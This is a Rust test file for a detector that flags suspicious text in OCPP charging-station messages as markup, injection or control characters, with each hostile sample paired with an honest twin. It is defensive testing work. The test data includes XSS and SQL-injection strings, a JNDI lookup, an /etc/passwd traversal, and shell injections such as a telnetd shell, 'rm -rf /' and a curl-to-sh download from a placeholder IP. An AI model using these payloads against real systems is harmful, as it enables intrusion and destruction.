//! Texts in messages of every version, in both directions; each with an honest twin.

use chargewarden_ocpp::{Action, Limits, Payload, Side, Version};

use super::super::stage;
use super::*;
use crate::effects::MessageKind;

fn doubts_of(text: &str) -> String {
    stage::doubts_of(text, doubts)
}

fn check(table: &[(&str, &str)]) {
    for (message, expected) in table {
        assert_eq!(&doubts_of(message), expected, "{message}");
    }
}

#[test]
fn reports_in_1_6() {
    check(&[
        (
            r#"1.6 station BootNotification {"chargePointVendor":"Acme","chargePointModel":"<script>x()</script>"}"#,
            "markup",
        ),
        (
            r#"1.6 station BootNotification {"chargePointVendor":"Acme","chargePointModel":"x' OR '1'='1"}"#,
            "injection",
        ),
        (
            r#"1.6 station BootNotification {"chargePointVendor":"O'Brien","chargePointModel":"R&D <unknown>"}"#,
            "",
        ),
        (
            r#"1.6 station BootNotification {"chargePointVendor":"Ac\u001b[31mme","chargePointModel":"M"}"#,
            "control_characters",
        ),
        (
            r#"1.6 station BootNotification {"chargePointVendor":"Acme","chargePointModel":"M","firmwareVersion":"$(reboot)"}"#,
            "injection",
        ),
        (
            r#"1.6 station BootNotification {"chargePointVendor":"Acme","chargePointModel":"M","firmwareVersion":"MCU:1.2;SECC:3.4--rc1"}"#,
            "",
        ),
        (
            r#"1.6 station StatusNotification {"connectorId":1,"errorCode":"OtherError","status":"Faulted","vendorErrorCode":"`reboot`"}"#,
            "injection",
        ),
        (
            r#"1.6 station StatusNotification {"connectorId":1,"errorCode":"OtherError","status":"Faulted","info":"a\nERROR root logged in"}"#,
            "control_characters",
        ),
        (
            r#"1.6 station StatusNotification {"connectorId":1,"errorCode":"OtherError","status":"Faulted","info":"load 50% < 60% (O'Brien), see C:\\temp","vendorErrorCode":"E-17|2"}"#,
            "",
        ),
        (r#"1.6 station Authorize {"idTag":"1' OR 1=1--"}"#, "injection"),
        (r#"1.6 station Authorize {"idTag":"04A1B2C3D4"}"#, ""),
        (
            r#"1.6 station StartTransaction {"connectorId":1,"idTag":"{{7*7}}","meterStart":0,"timestamp":"2026-01-01T00:00:00Z"}"#,
            "markup",
        ),
        (r#"1.6 station DataTransfer {"vendorId":"x","data":"<script src=//evil></script>"}"#, "markup"),
        (r#"1.6 station DataTransfer {"vendorId":"x","data":"{\"html\":\"\\u003cscript>\"}"}"#, "markup"),
        (
            r#"1.6 station DataTransfer {"vendorId":"com.acme","messageId":"cfg","data":"{\"a\":{\"b\":\"it's 5 > 3; ok\"}}\n"}"#,
            "",
        ),
        (
            r#"1.6 station DataTransfer {"vendorId":"com.acme","data":"<?xml version=\"1.0\"?><reading unit=\"W\">5</reading>"}"#,
            "",
        ),
        (
            r#"1.6 station SecurityEventNotification {"type":"InvalidFirmwareSignature","timestamp":"2026-01-01T00:00:00Z","techInfo":"${jndi:ldap://x/a}"}"#,
            "markup",
        ),
        (
            r#"1.6 station SecurityEventNotification {"type":"TamperDetectionActivated","timestamp":"2026-01-01T00:00:00Z","techInfo":"door's open: sensor #3 (50%)\n"}"#,
            "",
        ),
        (
            r#"1.6 station MeterValues {"connectorId":1,"meterValue":[{"timestamp":"2026-01-01T00:00:00Z","sampledValue":[{"value":"1;reboot"}]}]}"#,
            "injection",
        ),
        (
            r#"1.6 station MeterValues {"connectorId":1,"meterValue":[{"timestamp":"2026-01-01T00:00:00Z","sampledValue":[{"value":"OCMF|{\"FV\":\"1.0\",\"PG\":\"T1\",\"RD\":[{\"ST\":\"G\"}]}|{\"SD\":\"3045--;ls\"}","format":"SignedData"}]}]}"#,
            "",
        ),
        (
            r#"1.6 csms GetDiagnostics {"location":"ftp://x/y"} => {"fileName":"../../etc/passwd"}"#,
            "injection",
        ),
        (
            r#"1.6 csms GetConfiguration {} => {"configurationKey":[{"key":"<img src=x onerror=y()>","readonly":true,"value":"a"}]}"#,
            "markup",
        ),
        (
            r#"1.6 csms GetConfiguration {} => {"configurationKey":[{"key":"Motd","readonly":true,"value":"tea & biscuits; 5 < 6 {{evse}} 'x'"}],"unknownKey":["a.b-c"]}"#,
            "",
        ),
    ]);
}

#[test]
fn reports_in_2_x() {
    for version in ["2.0.1", "2.1"] {
        let with = |text: &str| format!("{version} {text}");
        for (message, expected) in [
            (
                r#"station BootNotification {"reason":"PowerUp","chargingStation":{"vendorName":"Acme","model":"M","serialNumber":"1'; DROP TABLE x;--"}}"#,
                "injection",
            ),
            (
                r#"station BootNotification {"reason":"PowerUp","chargingStation":{"vendorName":"Müller & Söhne","model":"M-1/2 (R&D)","serialNumber":"DE*ACM:0042#1"}}"#,
                "",
            ),
            (r#"station Authorize {"idToken":{"idToken":"a|sh","type":"ISO14443"}}"#, "injection"),
            (r#"station Authorize {"idToken":{"idToken":"04:A1:B2:C3","type":"ISO14443"}}"#, ""),
            (
                r#"station Authorize {"idToken":{"idToken":"a\u202eb","type":"ISO14443","additionalInfo":[{"additionalIdToken":"<svg onload=x()>","type":"t"}]}}"#,
                "control_characters markup",
            ),
            (
                r#"station NotifyEvent {"generatedAt":"2026-01-01T00:00:00Z","seqNo":0,"eventData":[{"eventId":1,"timestamp":"2026-01-01T00:00:00Z","trigger":"Alerting","actualValue":"true","techInfo":"<iframe src=x>","eventNotificationType":"HardWiredNotification","component":{"name":"Connector"},"variable":{"name":"Problem"}}]}"#,
                "markup",
            ),
            (
                r#"station NotifyEvent {"generatedAt":"2026-01-01T00:00:00Z","seqNo":0,"eventData":[{"eventId":1,"timestamp":"2026-01-01T00:00:00Z","trigger":"Alerting","actualValue":"50%; 60%","techCode":"E:17/3","techInfo":"relay's weld check: 3 < 4 && retry || stop `now`","eventNotificationType":"HardWiredNotification","component":{"name":"Connector"},"variable":{"name":"Problem"}}]}"#,
                "",
            ),
            (
                r#"station NotifyCustomerInformation {"data":"Name: O'Brien\nSince: 2020\n","seqNo":0,"generatedAt":"2026-01-01T00:00:00Z","requestId":1}"#,
                "",
            ),
            (r#"station DataTransfer {"vendorId":"x","data":{"a":["ok",{"b":"<script>"}]}}"#, "markup"),
            (r#"station DataTransfer {"vendorId":"x","data":{"<script>":1}}"#, "markup"),
            (r#"station Heartbeat {"customData":{"vendorId":"x","note":"javascript:alert(1)"}}"#, "markup"),
            (
                r#"station Heartbeat {"customData":{"vendorId":"com.acme","$schema":"v1","note":"it's fine; really"}}"#,
                "",
            ),
            (
                r#"station StatusNotification {"timestamp":"2026-01-01T00:00:00Z","connectorStatus":"Occupied","evseId":1,"connectorId":1}"#,
                "",
            ),
            (
                r#"station SignCertificate {"csr":"-----BEGIN CERTIFICATE REQUEST-----\nMIIB+/==\r\n-----END CERTIFICATE REQUEST-----\n"}"#,
                "",
            ),
            (
                r#"csms Reset {"type":"OnIdle"} => {"status":"Rejected","statusInfo":{"reasonCode":"x;reboot","additionalInfo":"a"}}"#,
                "injection",
            ),
            (
                r#"csms Reset {"type":"OnIdle"} => {"status":"Rejected","statusInfo":{"reasonCode":"InTx","additionalInfo":"driver's car is charging (50%); try again"}}"#,
                "",
            ),
        ] {
            assert_eq!(doubts_of(&with(message)), expected, "{version} {message}");
        }
    }
}

#[test]
fn commands_and_answers() {
    check(&[
        (r#"1.6 csms ChangeConfiguration {"key":"NtpServer","value":"x; telnetd -l /bin/sh"}"#, "injection"),
        (r#"1.6 csms ChangeConfiguration {"key":"NtpServer","value":"a.example;b.example,c.example"}"#, ""),
        (
            r#"1.6 csms ChangeConfiguration {"key":"AuthorizationKey","value":"x;rm $(a) {{7*7}} 'or 1=1--"}"#,
            "",
        ),
        (
            r#"1.6 csms ChangeConfiguration {"key":"QrText","value":"https://pay.example/{{evse}}?a=1&b=2"}"#,
            "",
        ),
        (r#"1.6 csms RemoteStartTransaction {"idTag":"`reboot`"}"#, "injection"),
        (
            r#"1.6 csms GetDiagnostics {"location":"ftp://logs.example.com/`curl http://203.0.113.9/x|sh`"}"#,
            "injection",
        ),
        (r#"1.6 csms GetDiagnostics {"location":"https:\/\/logs.example.com\/up?id=5&sig=a%2Bb;v=1"}"#, ""),
        (
            r#"1.6 station BootNotification {"chargePointVendor":"A","chargePointModel":"M"} => {"currentTime":"2026-01-01T00:00:00Z","interval":300,"status":"Accepted"}"#,
            "",
        ),
        (
            r#"1.6 station Authorize {"idTag":"A"} => {"idTagInfo":{"status":"Accepted","parentIdTag":"<script>"}}"#,
            "markup",
        ),
        (
            r#"2.0.1 csms SetVariables {"setVariableData":[{"attributeValue":"`reboot`","component":{"name":"ClockCtrlr"},"variable":{"name":"NtpServerUri"}}]}"#,
            "injection",
        ),
        (
            r#"2.0.1 csms SetVariables {"setVariableData":[{"attributeValue":"`;rm -rf /`","component":{"name":"SecurityCtrlr"},"variable":{"name":"BasicAuthPassword"}}]}"#,
            "",
        ),
        (
            r#"2.0.1 csms SetDisplayMessage {"message":{"id":1,"priority":"NormalCycle","message":{"format":"HTML","content":"<b>Welcome</b>, O'Brien!\n<img src=logo.png>"}}}"#,
            "",
        ),
        (
            r#"2.0.1 csms SetDisplayMessage {"message":{"id":1,"priority":"NormalCycle","message":{"format":"HTML","content":"<img src=x onerror=fetch('//x')>"}}}"#,
            "markup",
        ),
        (
            r#"2.1 csms SetDisplayMessage {"message":{"id":1,"priority":"NormalCycle","message":{"format":"UTF8","language":"he","content":"\u2068שלום\u2069 50% < 60%; R&D"}}}"#,
            "",
        ),
        (
            r#"2.1 csms SetDisplayMessage {"message":{"id":1,"priority":"NormalCycle","message":{"format":"URI","content":"javascript:pay()"}}}"#,
            "markup",
        ),
        (
            r#"2.1 csms GetLog {"logType":"DiagnosticsLog","requestId":7,"log":{"remoteLocation":"https://logs.example.com/$(reboot)"}}"#,
            "injection",
        ),
        (
            r#"2.1 csms InstallCertificate {"certificateType":"CSMSRootCertificate","certificate":"-----BEGIN CERTIFICATE-----\nMIIB==\n-----END CERTIFICATE-----"}"#,
            "",
        ),
    ]);
}

#[test]
fn errors_speak_to_people_too() {
    let payload =
        Payload::parse("{}", Action::Heartbeat.spec(Version::V16).unwrap().request, &Limits::default());
    let payload = payload.unwrap();
    let error = |code, description| {
        let mut out = Doubts::NONE;
        let message = Message {
            version: Version::V16,
            from: Side::Station,
            action: Action::Reset,
            kind: MessageKind::Error,
            payload: &payload,
            error: Some(code),
            description: Some(description),
            request: None,
            now: stage::NOW,
        };
        doubts(&message, &mut out);
        format!("{out:?}")
    };
    assert_eq!(error("InternalError", "can't do 'Reset' <now>; see log #3"), "{}");
    assert_eq!(error("InternalError", "<script>alert(1)</script>"), r#"{"markup"}"#);
    assert_eq!(error("Inter\u{1b}[2Jnal", ""), r#"{"control_characters"}"#);
}
